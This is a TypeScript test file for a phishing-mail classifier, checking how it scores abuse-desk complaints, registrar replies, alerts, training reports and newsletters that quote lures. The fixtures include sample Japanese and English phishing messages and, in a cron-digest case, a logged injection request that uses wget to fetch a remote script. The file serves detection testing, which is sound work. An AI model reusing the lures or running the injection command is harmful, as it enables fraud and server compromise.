/** Letters that show a bad address and do not want it opened: complaints, the answers to them, patches, and machines of one's own house. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { assertLinearAsync } from '../growth.ts';
import { examined } from './examining.ts';
import { judged, type Letter } from './letters.ts';

const page = 'http://198.51.100.77/rakuten/login/index.php';

const complaint = (words: string): Letter => ({
  from: 'postmaster@sender.example',
  subject: 'Phishing page on your network',
  fields: 'Cc: abuse@example.org\n',
  body: `Dear abuse team,

${words}

---- begin of message ----
Received: from unknown (HELO rakuten.co.jp) (203.0.113.9) by mail.sender.example with SMTP; 30 Nov 2026 08:11:02 +0900
From: =?utf-8?B?5qW95aSp44Kr44O844OJ?= <info@rakuten-card.example>
Subject: =?utf-8?B?44CQ6YeN6KaB44CR?=

お客様のカードのご利用を一時的に制限しました。24時間以内に下記よりご本人確認をお願いします。
${page}
---- end of message ----

Regards, Postmaster
`,
});

test('a complaint to an abuse desk names a page that is to be taken down; who wants an appeal there is another', async () => {
  const complains = await judged(
    complaint(
      `this morning a user received the phishing message below. The phishing page is still online:\n${page}\nPlease take it down.`,
    ),
  );
  assert.equal(complains.kind, 'undecided');
  assert.equal(complains.weights.get('link-ip-address'), undefined);
  assert.equal(complains.weights.get('passed-on'), -1);
  const lures = await judged(
    complaint(
      `your site was reported as a phishing page and will be suspended. To appeal and confirm your account open:\n${page}`,
    ),
  );
  assert.equal(lures.weights.get('link-ip-address'), 2);
  assert.equal(lures.kind, 'phishing');
});

test('a registrar answers a request to suspend a name in the words of the request', async () => {
  const answer = (to: string): Letter => ({
    from: 'abuse@sender.example',
    subject: 'Re: Takedown request: rakuten-card-login.example',
    fields: `In-Reply-To: <1@example.org>\nCc: ${to}\n`,
    body: `Hello,

we have reviewed the domain name rakuten-card-login.example and have suspended it. If the page
https://rakuten-card-login.example/verify still responds tomorrow, please reply to this ticket.

> the domain rakuten-card-login.example is used for phishing:
> https://rakuten-card-login.example/verify
> Please verify your account holder and suspend the domain.
`,
  });
  const { kind, weights } = await judged(answer('csirt@example.org'));
  assert.equal(kind, 'undecided');
  assert.equal(weights.get('link-lookalike'), undefined);
});

test('a lure for the mailbox of a desk speaks of fraud and of what is suspended, and calls its page no bad one', async () => {
  for (const body of [
    `不正アクセスを検知したため、アカウントを停止しました。24時間以内に本人確認をお願いします。\n${page}\n`,
    `Fraud was detected and your account will be suspended. Verify your account within 24 hours:\n${page}\n`,
    `Spam was reported from your mailbox, which is blocked. Remove the block: ${page}\n`,
  ]) {
    const { weights } = await judged({ subject: 'Notice', fields: 'Cc: security@example.org\n', body });
    assert.equal(weights.get('link-ip-address'), 2, body);
  }
});

test('no desk is written to: the same words excuse no page', async () => {
  const { weights } = await judged({
    subject: 'Phishing page',
    body: `A phishing page was found and will be taken down:\n${page}\n`,
  });
  assert.equal(weights.get('link-ip-address'), 2);
});

test('a patch adds the addresses of a test; what stands beside its lines is written by its author', async () => {
  const patch = (below: string): Letter => ({
    subject: '[PATCH] tests: samples of disguised links',
    body: `Three links that were seen last week.
${below}
diff --git a/tests/links.txt b/tests/links.txt
--- a/tests/links.txt
+++ b/tests/links.txt
@@ -10,2 +10,5 @@
 https://www.example.org/
+https://www.\u0430mazon.example/signin
+https://amaz0n-login.example/signin
+https://paypa1.example/verify
 # end
-- 
2.43.0
`,
  });
  const honest = await judged(patch(''));
  assert.equal(honest.kind, 'undecided');
  assert.deepEqual(
    [...honest.weights.keys()].filter((one) => one.startsWith('link-')),
    [],
  );
  const lure = await judged(patch('Please sign in at https://amaz0n-login.example/signin\n'));
  assert.equal(lure.weights.get('link-lookalike'), 3);
});

test('a machine of the house is linked by its address; a stranger’s is not', async () => {
  const alert = (from: string, host: string): Letter => ({
    from,
    client: `${host} (${host} [192.0.2.10])`,
    subject: '[ALERT] new sign-in from unknown device',
    body: `A sign-in to your account was made from 198.51.100.9.\nIf it was not you, change your password now:\nhttp://198.51.100.20/-/profile/password/edit\n`,
  });
  const own = await judged(alert('git@example.org', 'nas.example.org'));
  assert.equal(own.weights.get('link-ip-address'), 1);
  assert.equal(own.kind, 'undecided');
  // the name of the house, from a host that is none of its own
  const forged = await judged(alert('git@example.org', 'mail.sender.example'));
  assert.equal(forged.weights.get('link-ip-address'), 2);
  assert.equal(forged.kind, 'phishing');
});

test('a desk tells whose machine a false page stands on, and shows the mail between two rules', async () => {
  const told = (how: string, client = 'mail.csirt.example'): Letter => ({
    from: 'csirt@csirt.example',
    client: `${client} (${client} [192.0.2.10])`,
    subject: '【至急】貴研究室サーバーの改ざんの疑い',
    body: `貴サーバーにフィッシングサイトが設置されているとの通報を受けました。
  ${how}: ${page}
18時までにネットワークケーブルを抜いてください。連絡がない場合は通信を遮断いたします。
参考: 通報者から提供された誘導メール
-----------------------------------------
Subject: 【最終警告】お客さまの口座は凍結されます
From: みずうみ銀行 <no-reply@bank.example.net>

お客さまの口座で異常なログインを検知しました。12時間以内に本人確認を完了してください。
${page}
-----------------------------------------
`,
  });
  assert.equal((await judged(told('設置URL'))).kind, 'undecided');
  // a page on which the desk itself wants something is no bad one, and who borrows the name of a desk is none
  assert.notEqual((await judged(told('ログインのうえ異議を申し立てる手続きはこちら'))).kind, 'undecided');
  assert.notEqual((await judged(told('設置URL', 'mail.sender.example'))).kind, 'undecided');
});

test('who asks whether a mail is genuine shows it in marks; a lure in marks that nobody doubts is a lure', async () => {
  const shown = (said: string): Letter => ({
    from: 'yoshie@sender.example',
    subject: said,
    body: `元気ですか。さっきこんなのが来ました。
「お客様宛のお荷物をお届けにあがりましたが不在の為持ち帰りました。配送料50円のお支払いが確認できません。本日中にカードでお支払いください。
http://re-delivery.example/p/?k=71a3」
夜なら家にいます。
`,
  });
  assert.equal((await judged(shown('これ本物?'))).weights.get('parcel-lure'), undefined);
  assert.equal((await judged(shown('お荷物の件'))).weights.get('parcel-lure'), 2);
});

test('the result of an exercise is told to the people of the house, by its own host', async () => {
  const report = (client: string): Letter => ({
    from: 'kunren@example.org',
    client,
    subject: '標的型攻撃メール訓練 結果報告',
    body: `訓練の結果を報告します。\n【文面A】本文:「パスワードの有効期限が切れます。24時間以内に下記から更新しない場合、メールボックスは停止されます。\nhttps://owa.examp1e-org.example/renew?u=1」\n開封 31名、報告 88名でした。\n`,
  });
  // it never left the house
  const own = await judged(report('mail.example.org (mail.example.org [192.168.1.66])'));
  assert.equal(own.weights.get('credential-lure'), undefined);
  const forged = await judged(report('mail.sender.example (mail.sender.example [192.0.2.10])'));
  assert.equal(forged.weights.get('credential-lure'), 2);
});

test('the issue of a paper that warns shows a page and leads to its own; whoever leads elsewhere is no paper', async () => {
  const issue = (client: string): Letter => ({
    from: 'henshu@mamoru.example',
    client: `${client} (${client} [192.0.2.10])`,
    subject: '[まもる 218] 年末の「配送」メール',
    fields: 'List-Id: <mamoru-ml.mamoru.example>\nList-Unsubscribe: <https://lists.mamoru.example/leave>\n',
    body: `だまされないための、週に一度の5分
4位 お荷物の住所に不備があり、配達できませんでした
お客様の電気料金のお支払いが確認できておりません。本日23:59までにお支払いください。
http://denryoku.example.net/pay?id=90213
ここがおかしい! 払わず、電話帳の番号で確かめてください。
カンパのお願い https://mamoru.example/kampa
解除 https://lists.mamoru.example/options
`,
  });
  assert.equal((await judged(issue('lists.mamoru.example'))).weights.get('parcel-lure'), undefined);
  assert.equal((await judged(issue('mail.stranger.example'))).weights.get('parcel-lure'), 2);
});

test('a machine’s digest to its own root, handed on inside of the house, names nobody and hides nobody', async () => {
  const digest = (first: string): string => `Received: from deb12.example.org (${first})
	by mx.example.org (Postfix) with ESMTP id 4TqXyz0000
	for <sysop@example.org>; Fri, 20 Nov 2026 10:00:00 +0900
Received: by deb12.example.org (Postfix, from userid 0)
	id 4TqXyz1111; Fri, 20 Nov 2026 09:59:58 +0900
From: root@deb12.example.org
To: root@deb12.example.org
Subject: Cron <root@deb12> daily-digest
Date: Fri, 20 Nov 2026 09:59:58 +0900

12 "Your account is suspended"   (header check)
GET /shell?cd+/tmp;wget+http://203.0.113.66/bins.sh     3
notAfter=Apr 16 2026   7 days left - ACTION REQUIRED
`;
  const own = await examined(Buffer.from(digest('unknown [192.168.77.12]').replaceAll('\n', '\r\n')));
  assert.equal(own.verdict.kind, 'undecided');
  assert.ok(!own.findings.some(({ detector }) => detector === 'recipient-unnamed'));
  const strange = await examined(Buffer.from(digest('unknown [203.0.113.5]').replaceAll('\n', '\r\n')));
  assert.notEqual(strange.verdict.kind, 'undecided');
});

test('a letter of many links to a desk, and one of many opened marks, take time as they grow', async () => {
  const work = (one: Letter) => judged(one);
  const fields = 'Cc: abuse@example.org\n';
  const links = (n: number) => Array.from({ length: n }, (_, i) => `http://h${i}.example/p "x`).join('\n');
  await assertLinearAsync(
    'links',
    60,
    (n) => ({ fields, body: `The phishing page was taken down.\n${links(n)}\n` }),
    work,
  );
  await assertLinearAsync('marks', 20_000, (n) => ({ body: `http://a.example/\n${'\u201c'.repeat(n)}\n` }), work);
});
